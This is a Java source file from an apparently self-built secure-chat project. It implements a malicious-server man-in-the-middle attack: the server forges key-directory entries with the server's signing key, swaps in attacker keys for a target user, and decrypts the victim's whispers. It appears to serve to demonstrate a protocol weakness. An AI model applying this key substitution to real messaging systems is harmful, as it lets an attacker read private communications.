package securechat.attacks.mitm;

import java.security.GeneralSecurityException;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import securechat.attacks.wire.LineRewriter;
import securechat.core.identity.ServerIdentity;
import securechat.core.protocol.Username;
import securechat.e2e.Envelope;
import securechat.e2e.EnvelopeException;
import securechat.e2e.IdentityKeys;
import securechat.e2e.Payload;
import securechat.e2e.PublicIdentity;
import securechat.e2e.SignedKeyEntry;

/**
 * The malicious e2e server's trick: every {@code KEY} line about the {@code target} user that goes
 * to the victim carries the attacker's keys instead, signed with the server's own identity key (the
 * operator has it), so it passes the victim's signature check. Whispers the victim then seals "to
 * the target" are sealed to the attacker, who opens them.
 *
 * <p>Only the lines this class understands are touched; the e2e handshake, signed by the real
 * server and the victim, passes unchanged, which is how the victim's pin of the server key holds.
 */
final class KeySubstitution implements LineRewriter {
  private final ServerIdentity server;
  private final Username target;
  private final IdentityKeys attackerKeys = IdentityKeys.generate(new java.security.SecureRandom());
  private final CompletableFuture<PublicIdentity> targetKeys = new CompletableFuture<>();
  private final CompletableFuture<PublicIdentity> victimKeys = new CompletableFuture<>();
  private final CompletableFuture<String> opened = new CompletableFuture<>();
  private volatile String problem = "";

  KeySubstitution(ServerIdentity server, Username target) {
    this.server = server;
    this.target = target;
  }

  @Override
  public Optional<String> rewrite(Direction direction, String line) {
    String[] words = line.split(" ", 3);
    if (direction == Direction.TO_CLIENT
        && words.length == 3
        && words[0].equals("KEY")
        && words[1].equals(target.value())) {
      return Optional.of(forged(words[2]).orElse(line));
    }
    if (direction == Direction.TO_SERVER && words[0].equals("E2E-IDENTITY") && words.length == 3) {
      String[] fields = words[2].split(" ");
      if (fields.length > 2) {
        victimKeys.complete(PublicIdentity.parse(fields[1], fields[2]));
      }
    }
    if (direction == Direction.TO_SERVER
        && words.length == 3
        && words[0].equals("/whisper")
        && words[1].equals(target.value())
        && Envelope.isEnvelope(words[2])) {
      open(words[2]);
    }
    return Optional.of(line);
  }

  /** {@code KEY target ENTRY} with the attacker's keys, signed by the server's identity. */
  private Optional<String> forged(String untrustedEntry) {
    try {
      SignedKeyEntry real = SignedKeyEntry.parse(target, untrustedEntry);
      targetKeys.complete(real.keys());
      PublicIdentity fake = attackerKeys.publicIdentity();
      byte[] toSign = new SignedKeyEntry(target, fake, real.boundAt(), new byte[0]).signedBytes();
      SignedKeyEntry forged = new SignedKeyEntry(target, fake, real.boundAt(), server.sign(toSign));
      return Optional.of("KEY " + target + " " + forged.encode());
    } catch (GeneralSecurityException | RuntimeException e) {
      problem = "could not forge the entry: " + e.getMessage();
      return Optional.empty();
    }
  }

  private void open(String envelopeText) {
    try {
      PublicIdentity sender = victimKeys.getNow(null);
      if (sender == null) {
        problem = "a whisper came before the victim's identity";
        return;
      }
      Payload payload = Envelope.parse(envelopeText).open(attackerKeys, sender);
      opened.complete(
          payload instanceof Payload.Whisper whisper ? whisper.text() : payload.toString());
    } catch (EnvelopeException e) {
      problem = "could not open the whisper: " + e.getMessage();
    }
  }

  /** What the attacker read from the victim's whisper, once it has. */
  CompletableFuture<String> opened() {
    return opened;
  }

  PublicIdentity attackerKeys() {
    return attackerKeys.publicIdentity();
  }

  /** The target's real keys, as the directory gave them before the attacker replaced them. */
  Optional<PublicIdentity> targetKeys() {
    return Optional.ofNullable(targetKeys.getNow(null));
  }

  /** The victim's keys, from the victim's own E2E-IDENTITY line. */
  Optional<PublicIdentity> victimKeys() {
    return Optional.ofNullable(victimKeys.getNow(null));
  }

  /** What went wrong in the attacker's own code, if anything; empty otherwise. */
  String problem() {
    return problem;
  }
}
